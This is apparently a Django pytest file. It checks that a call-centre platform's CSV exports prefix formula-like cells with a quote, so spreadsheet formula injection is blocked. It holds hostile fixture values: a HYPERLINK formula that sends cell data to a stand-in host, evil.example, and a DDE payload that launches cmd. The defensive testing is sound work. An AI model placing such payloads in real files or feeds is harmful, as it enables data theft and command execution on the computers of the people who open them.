"""No CSV the platform hands out runs as a spreadsheet formula: names from the feed or the console
that start with `=`, `+`, `-`, `@`, a tab or a carriage return come out behind a single quote, in the
`kpi_report --format csv` command and the report export page alike; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from callcenter.csvsafe import csv_cell, csv_text
from telephony.services import call_events_ingest
from tests.agents.factories import TeamFactory
from tests.callcenter.factories import UserFactory
from tests.kpi.factories import call_events
from tests.telephony.factories import FeedSourceFactory

DAY = "2026-11-23"
QUEUE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AGENT = "@SUM(1)"
TEAM = "+cmd|' /C calc'!A0"


# --- the rule -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("sales", "sales"),
        ("a=1", "a=1"),  # only the first character makes a formula
        ("-", "-"),  # the report's "no queue": a lone dash is no formula
        ("--1", "'--1"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(cell, written):
    assert csv_cell(cell) == written


@pytest.mark.parametrize("number", [-12.5, -3, 0, 42, 87.5, Decimal("-1.25")])
def test_numbers_negative_ones_included_stay_numbers(number):
    assert csv_cell(number) is number


def test_a_whole_file_is_safe_and_reads_back():
    text = csv_text(["name", "nps"], [["=1+1", -12.5], ['say "hi", then go', 3]])
    assert text == 'name,nps\n\'=1+1,-12.5\n"say ""hi"", then go",3\n'


# --- every CSV writer goes through the rule --------------------------------------------------------
def test_no_module_writes_csv_around_the_safe_helper():
    base = Path(settings.BASE_DIR)
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.writerows?\(")
    offending = []
    for app in ("callcenter", "agents", "kpi", "qa", "telephony", "tickets"):
        for path in sorted((base / app).rglob("*.py")):
            if path.relative_to(base) != Path("callcenter/csvsafe.py") and writers.search(path.read_text()):
                offending.append(str(path.relative_to(base)))
    assert offending == []


# --- the KPI report: command and export page --------------------------------------------------------
@pytest.fixture
def hostile(db):
    """A queue and an agent named like formulas by the feed, a team named like one in the console; one
    call with an NPS of 2, so the report's NPS is negative (-100)."""
    source = FeedSourceFactory(name="pbx1")
    events = call_events("h1", queue=QUEUE, agent=AGENT, queued=0, answered=10, ended=70, nps=2)
    assert call_events_ingest(source=source, raw_events=events).rejected == []
    TeamFactory(name=TEAM, members=[UserFactory(username=AGENT, roles=["agent"])])


def _command(by: str) -> list[dict[str, str]]:
    out = StringIO()
    call_command("kpi_report", "--from", DAY, "--to", DAY, "--by", by, "--format", "csv", stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def _export(client, supervisor, by: str) -> list[dict[str, str]]:
    client.force_login(supervisor)
    response = client.get("/reports/export.csv", {"first_day": DAY, "last_day": DAY, "by": by})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(("by", "name"), [("queue", QUEUE), ("agent", AGENT)])
def test_the_report_command_quotes_formula_names(hostile, by, name):
    (row,) = _command(by)
    assert row[by] == f"'{name}"
    assert row["nps"] == "-100.0"  # a number: no quote
    assert row["answered"] == "1"


@pytest.mark.parametrize(("by", "name"), [("queue", QUEUE), ("agent", AGENT), ("team", TEAM)])
def test_the_report_export_quotes_formula_names(client, supervisor, hostile, by, name):
    (row,) = _export(client, supervisor, by)
    assert row[by] == f"'{name}"
    assert row["nps"] == "-100.0"
    assert row["answered"] == "1"
